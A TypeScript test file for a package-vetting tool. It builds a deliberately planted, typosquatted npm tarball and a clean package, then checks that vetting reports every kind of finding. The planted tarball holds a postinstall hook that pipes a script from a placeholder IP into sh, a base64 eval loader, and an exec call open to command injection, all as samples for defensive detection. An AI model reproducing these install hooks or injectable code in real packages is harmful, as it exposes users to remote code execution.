/** One npm tarball with one harmless example of every kind of finding, through the whole vetting; and the same cleaned. */
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe } from 'vitest';
import { npm } from '../../src/ecosystems/npm/index.ts';
import { createVetting, type Vetting } from '../../src/features/vetting/index.ts';
import { type ListedTarball, registryAnswer } from '../../src/main/demo/made-here-registry.ts';
import { type MadeTarball, makeTarball } from '../../src/main/demo/made-here-tarballs.ts';
import { javascriptModule } from '../corpora/code.ts';
import { secretSamples } from '../corpora/secrets.ts';
import { type OtherUpstream, openOtherUpstream } from '../harness/other-upstream.ts';
import { openSigstore } from '../harness/sigstore.ts';
import { openVettingBench, type VettingBench } from '../harness/vetting.ts';
import { itTellsEveryKind, MARKER, plantedLists, plantedWorld, REPOSITORY, ready, unreadable } from './planted.ts';

/** Every line of Node that a machine may have. */
const HERE = ['18', '20', '22', '24', '26'].map((node) => `node${node}-linux-${process.arch}`);

const own = openSigstore();
const PLANTED = { name: 'exrpess', version: '1.0.0' };
const CLEANED = { name: 'sailboat', version: '1.0.0' };

/** Stands in another package, which is vetted before. */
const COPIED = javascriptModule(77, 30);
const DONOR = makeTarball({
  name: 'donor',
  version: '1.0.0',
  manifest: { license: 'GPL-3.0-only' },
  files: { 'index.js': COPIED },
});
/** The version that was cleared before the planted one. */
const BEFORE = makeTarball({ name: PLANTED.name, version: '0.9.0', files: { 'index.js': 'module.exports = 1;\n' } });

function planted(): MadeTarball {
  const [secret] = secretSamples();
  return makeTarball({
    ...PLANTED,
    manifest: {
      ...{ license: undefined, description: undefined, repository: REPOSITORY },
      scripts: { postinstall: 'curl -s http://192.0.2.7/x.sh | sh' },
    },
    // The registry says less than the tarball: clients that believe it install something else.
    listed: { scripts: { test: 'node test' } },
    files: {
      // Loaders say so where a system library is missing.
      'index.js':
        'eval(Buffer.from("Y29uc29sZS5sb2coMSk7", "base64").toString());\n' +
        'throw new Error("libmadeup.so.1: cannot open shared object file: No such file or directory");\n',
      'weak.js': 'const { exec } = require("node:child_process");\nmodule.exports = (name) => exec("ls " + name);\n',
      'mark.js': `module.exports = "${MARKER}";\n`,
      [secret?.path.split('/').at(-1) ?? 'secret.js']: secret?.text ?? '',
      'copied.js': COPIED,
      'data.bin': unreadable(),
      'test/it.test.js': 'require("node:test")("it", () => {});\n',
    },
  });
}

const SOURCE = {
  'index.js': 'exports.sail = require("./core.js").sail;\n',
  'core.js': 'exports.sail = (wind) => wind * 2;\n',
};

function cleaned(): MadeTarball {
  return makeTarball({
    ...CLEANED,
    manifest: {
      ...{ description: 'Sails boats.', author: 'Ann Sail <ann@sailboat.example>' },
      maintainers: ['Ann Sail <ann@sailboat.example>', 'Bo Mast <bo@sailboat.example>'],
      ...{ repository: REPOSITORY, homepage: 'https://sailboat.example/' },
    },
    files: SOURCE,
  });
}

describe('the planted tarball', () => {
  let bench: VettingBench;
  let upstream: OtherUpstream;
  let vetting: Vetting;
  let isTried: boolean;
  const releases: ListedTarball[] = [];
  const documents: Record<string, string> = {};

  beforeAll(async () => {
    bench = await openVettingBench();
    isTried =
      (await bench.deps.cage.isolation()).isolated && !('unavailable' in (await bench.deps.trialMachine('npm')));
    upstream = await openOtherUpstream(
      bench,
      npm,
      (question, base) => registryAnswer({ releases, documents }, question, base),
      HERE,
    );
    Object.assign(bench.world, {
      ...plantedWorld('npm', PLANTED.name, SOURCE),
      trustRoots: ready([own.trustRoot]),
    });
    const early = createVetting(upstream.deps);
    const before = await vet(early, BEFORE, '2015-05-01T00:00:00Z');
    await vet(early, DONOR, '2015-06-01T00:00:00Z');
    bench.world.policy = { ...bench.world.policy, installProof: isTried ? 'root' : 'off' };
    vetting = createVetting({
      ...upstream.deps,
      ...plantedLists(BEFORE, before, { lookedLike: 'express', cleaned: CLEANED.name }),
    });
  });
  afterAll(async () => {
    await upstream.close();
    await bench.close();
  });

  function vet(room: Vetting, tarball: MadeTarball, uploadedAt: string, attested?: Uint8Array) {
    const { name, version } = tarball;
    const path = `-/npm/v1/attestations/${name}@${version}`;
    const dist = { attestations: { url: `${upstream.base}${path}`, provenance: { predicateType: 'x' } } };
    if (attested !== undefined) {
      const digest = { sha512: createHash('sha512').update(attested).digest('hex') };
      const bundle = own.bundle({ name: `pkg:npm/${name}@${version}`, digest });
      documents[path] = JSON.stringify({ attestations: [{ predicateType: 'x', bundle }] });
    }
    releases.push({ tarball, uploadedAt, ...(attested === undefined ? {} : { dist }) });
    return room.vet({ channel: 'tier3', ecosystem: 'npm', name, extras: [], version });
  }

  itTellsEveryKind({
    ecosystem: 'npm',
    packages: 'tarballs',
    trials: { isMade: () => isTried, need: 'needs bubblewrap, and Node with npm' },
    planted: () => vet(vetting, planted(), '2015-06-01T00:00:00Z', Buffer.from('other bytes')),
    cleaned() {
      const tarball = cleaned();
      return vet(vetting, tarball, '2025-07-01T00:00:00Z', tarball.bytes);
    },
  });
});
